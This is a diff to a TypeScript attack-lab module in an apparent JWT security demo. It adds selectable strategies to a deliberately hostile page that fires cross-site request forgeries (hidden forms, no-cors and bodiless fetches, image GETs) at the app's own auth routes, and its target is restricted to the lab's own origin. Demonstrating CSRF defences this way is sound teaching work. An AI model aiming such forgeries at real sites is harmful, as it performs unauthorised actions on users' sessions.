@@ -6,7 +6,8 @@ import type { IsAppPage } from './site-origins.js';
 /**
  * The attacker's page: what any site the victim visits could do. Opened with the app's origin as
  * `target`, it fires forged requests at the app's state-changing routes the moment it loads. The
- * lab then reads, from the app, which check refused each one.
+ * lab then reads, from the app, which check refused each one. Without `strategy` it fires the four
+ * classic forgeries; with one, the forgeries that strategy is exposed to (see CrossSitePageQuery).
  */
 export async function crossSitePage(site: App, { isAppPage }: { isAppPage: IsAppPage }) {
   site.get('/', async (_request, reply) => reply.type('text/html; charset=utf-8').send(INDEX_PAGE));
@@ -16,7 +17,7 @@ export async function crossSitePage(site: App, { isAppPage }: { isAppPage: IsApp
     // An HTML page: no JSON response schema; errors still go through the one error handler.
     { schema: { querystring: CrossSitePageQuery } },
     async (request, reply) => {
-      const { target, run = 'unlabelled' } = request.query;
+      const { target, run = 'unlabelled', strategy = 'classic' } = request.query;
       // Only the app's own pages: this demo must not become a tool against other sites.
       if (!isAppPage(target)) throw new ApiError('invalid_request', 'target must be the origin of the JWT Lab page (on loopback, or PUBLIC_URL).');
       return reply
@@ -26,7 +27,7 @@ export async function crossSitePage(site: App, { isAppPage }: { isAppPage: IsApp
         )
         .header('cache-control', 'no-store')
         .type('text/html; charset=utf-8')
-        .send(attackPage(target, run));
+        .send(attackPage(target, run, strategy));
     },
   );
 
@@ -41,11 +42,11 @@ injected script steals (<a href="/loot">/loot</a>), replays stolen tokens from i
 serves a page that forges requests to the app. Turn it off with ATTACK_LAB=false.</p></main></body></html>
 `;
 
-function attackPage(target: string, run: string): string {
+function attackPage(target: string, run: string, strategy: string): string {
   return `<!doctype html>
 <html lang="en">
 <head><meta charset="utf-8"><title>You won a prize! (the attacker's page)</title></head>
-<body data-target="${escapeHtml(target)}" data-run="${escapeHtml(run)}">
+<body data-target="${escapeHtml(target)}" data-run="${escapeHtml(run)}" data-strategy="${escapeHtml(strategy)}">
 <main>
 <h1>You won a prize!</h1>
 <p>This is the attacker's page of JWT Lab's attack lab, on a different site from the app. Any site you
@@ -64,7 +65,7 @@ visit could do what it just did: make your browser send requests to <code>${esca
 
 /** Runs in the attacker's page; the CSP there allows scripts from the attacker's own origin only. */
 const ATTACK_SCRIPT = `'use strict';
-const { target, run } = document.body.dataset;
+const { target, run, strategy } = document.body.dataset;
 const attempts = document.getElementById('attempts');
 const say = (text) => {
   const item = document.createElement('li');
@@ -73,34 +74,70 @@ const say = (text) => {
 };
 const at = (path) => target + path + '?run=' + encodeURIComponent(run);
 
-// 1. The classic: a hidden form, submitted at once. A form can send only form or text bodies.
-const form = document.getElementById('forged-form');
-form.action = at('/api/auth/logout-all');
-form.submit();
-say('Submitted a hidden form: POST /api/auth/logout-all with a form body, answer into a hidden frame.');
+// The classic: a hidden form, submitted at once. A form can send only form or text bodies.
+function hiddenForm(path) {
+  const form = document.getElementById('forged-form');
+  form.action = at(path);
+  form.submit();
+  say('Submitted a hidden form: POST ' + path + ' with a form body, answer into a hidden frame.');
+}
 
-// 2. A fetch the browser sends without asking anyone ("no-cors", a text body); its answer stays hidden.
-fetch(at('/api/auth/logout'), { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then(
-  () => say('Sent fetch POST /api/auth/logout with a text body (no-cors: the answer is hidden from this page).'),
-  () => say('fetch POST /api/auth/logout could not be sent.'),
-);
+// A fetch the browser sends without asking anyone ("no-cors", a text body); its answer stays hidden.
+function textFetch(path) {
+  fetch(at(path), { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then(
+    () => say('Sent fetch POST ' + path + ' with a text body (no-cors: the answer is hidden from this page).'),
+    () => say('fetch POST ' + path + ' could not be sent.'),
+  );
+}
 
-// 3. A JSON fetch with a guessed CSRF token: cross-origin JSON needs the app's permission first (a CORS preflight).
-fetch(at('/api/auth/logout-all'), {
-  method: 'POST',
-  credentials: 'include',
-  headers: { 'content-type': 'application/json', 'x-csrf-token': 'guessed-token' },
-  body: '{}',
-}).then(
-  (response) => say('JSON fetch POST /api/auth/logout-all was answered ' + response.status + '.'),
-  () => say('JSON fetch POST /api/auth/logout-all with X-CSRF-Token: the browser asked the app for permission (preflight), got none, and never sent it.'),
-);
+// A JSON fetch with a guessed CSRF token: cross-origin JSON needs the app's permission first (a CORS preflight).
+function jsonFetch(path) {
+  fetch(at(path), {
+    method: 'POST',
+    credentials: 'include',
+    headers: { 'content-type': 'application/json', 'x-csrf-token': 'guessed-token' },
+    body: '{}',
+  }).then(
+    (response) => say('JSON fetch POST ' + path + ' was answered ' + response.status + '.'),
+    () => say('JSON fetch POST ' + path + ' with X-CSRF-Token: the browser asked the app for permission (preflight), got none, and never sent it.'),
+  );
+}
 
-// 4. An image: a cross-site GET that needs no permission; SameSite alone decides whether the cookie rides along.
-const image = new Image();
-image.addEventListener('error', () => say('Image GET /api/private: refused (and it is not an image anyway).'));
-image.addEventListener('load', () => say('Image GET /api/private loaded.'));
-image.src = at('/api/private');
+// No body, so no Content-Type: the one cross-site POST that reaches a JSON API's handler at all.
+// Whether it works is up to SameSite (does the cookie ride along?), the Origin check and the CSRF token.
+function bodilessFetch(path) {
+  fetch(at(path), { method: 'POST', mode: 'no-cors', credentials: 'include' }).then(
+    () => say('Sent fetch POST ' + path + ' with no body (no-cors: the answer is hidden from this page).'),
+    () => say('fetch POST ' + path + ' could not be sent.'),
+  );
+}
+
+// An image: a cross-site GET that needs no permission; SameSite alone decides whether the cookie rides along.
+function image(path) {
+  const picture = new Image();
+  picture.addEventListener('error', () => say('Image GET ' + path + ': refused (and it is not an image anyway).'));
+  picture.addEventListener('load', () => say('Image GET ' + path + ' loaded.'));
+  picture.src = at(path);
+}
+
+const FORGERIES = {
+  classic: [() => hiddenForm('/api/auth/logout-all'), () => textFetch('/api/auth/logout'), () => jsonFetch('/api/auth/logout-all'), () => image('/api/private')],
+  // Cookies ride along on every request the browser sends to the app, if SameSite lets them.
+  cookie: [
+    () => hiddenForm('/api/auth/logout-all'),
+    () => textFetch('/api/auth/logout'),
+    () => jsonFetch('/api/auth/logout-all'),
+    () => image('/api/private'),
+    () => bodilessFetch('/api/auth/logout'),
+    () => bodilessFetch('/api/auth/refresh'),
+  ],
+  // Only the refresh cookie is ambient: a forged refresh is the one thing worth trying.
+  memory: [() => hiddenForm('/api/auth/refresh'), () => jsonFetch('/api/auth/refresh'), () => bodilessFetch('/api/auth/refresh')],
+  // Nothing is ambient: no browser adds an Authorization header by itself. Tried anyway, to show it.
+  header: [() => bodilessFetch('/api/auth/logout'), () => image('/api/private')],
+  dpop: [() => bodilessFetch('/api/auth/logout'), () => image('/api/private')],
+};
+for (const forge of FORGERIES[strategy] ?? FORGERIES.classic) forge();
 `;
 
 function escapeHtml(text: string): string {
